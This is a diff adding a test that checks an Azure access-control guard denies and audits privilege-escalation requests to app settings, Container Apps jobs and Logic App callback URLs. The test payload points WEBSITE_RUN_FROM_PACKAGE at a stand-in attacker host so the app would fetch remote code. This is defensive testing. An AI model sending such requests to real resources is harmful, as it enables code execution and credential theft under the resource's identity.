@@ -558,6 +558,28 @@ spec:
       expect(reached(from, "/functions/admin/token")).toEqual([]);
     });
 
+    it("app settings, a Container Apps job's template and start, a Logic App trigger's callback URL: code or a credential under the resource's identity, denied by the preset (attack finding 8), audited", async () => {
+      const user = nextUser();
+      const app = await c.appSession(user, ["azure-cli-access", "guard"], READER);
+      const from = fx.emu.requests.length;
+      const rg = `https://management.azure.com${S}/resourceGroups/web/providers`;
+      const attempts: [string, string, string][] = [
+        ["PUT", `${rg}/Microsoft.Web/sites/app1/config/appsettings`, "Microsoft.Web/sites/config/write"],
+        ["PUT", `${rg}/Microsoft.Web/sites/app1/slots/staging/config/web`, "Microsoft.Web/sites/slots/config/write"],
+        ["PUT", `${rg}/Microsoft.App/jobs/job1`, "Microsoft.App/jobs/write"],
+        ["POST", `${rg}/Microsoft.App/jobs/job1/start`, "Microsoft.App/jobs/start/action"],
+        ["POST", `${rg}/Microsoft.Logic/workflows/wf1/triggers/manual/listCallbackUrl`, "Microsoft.Logic/workflows/triggers/listCallbackUrl/action"],
+      ];
+      for (const [method, url] of attempts) {
+        const res = await app.request(`${url}?api-version=2023-01-01`, { method, body: new TextEncoder().encode('{"properties":{"WEBSITE_RUN_FROM_PACKAGE":"https://attacker.example/pkg.zip"}}'), headers: [["content-type", "application/json"]] });
+        expect((await refusedWith(res)).message, url).toContain("is denied by role guard (preset no-privilege-escalation)");
+      }
+      const denied = await events("app.request.denied", user);
+      expect(denied.map((e) => e.action)).toEqual(attempts.map(([, , action]) => action));
+      for (const e of denied) expect(e).toMatchObject({ error_code: "policy_denied", success: false, policy: { decision: "deny", role: "guard", preset: "no-privilege-escalation" } });
+      expect(fx.emu.requests.slice(from).filter((r) => /\/(config|jobs|workflows)\//i.test(r.path))).toEqual([]);
+    });
+
     it("a role assignment through a regional ARM host is named and denied by the preset, audited", async () => {
       const user = nextUser();
       const app = await c.appSession(user, ["azure-cli-access", "guard"], READER);
